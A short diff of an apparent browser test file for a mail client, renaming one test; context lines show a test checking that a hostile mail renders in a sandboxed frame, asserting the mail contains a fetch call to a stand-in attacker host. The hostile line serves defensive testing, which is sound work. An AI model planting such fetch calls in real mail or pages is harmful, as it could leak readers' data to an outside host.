@@ -72,7 +72,7 @@ test('r1: a hostile mail is shown in a frame where nothing runs and nothing is f
   expect(original).toContain("fetch('https://evil.example/e')");
 });
 
-test('mail_1: an answer by mail can be read in the folder of what would have gone out', async ({
+test('mail_31: an answer by mail can be read in the folder of what would have gone out', async ({
   sapa,
   desk,
 }) => {
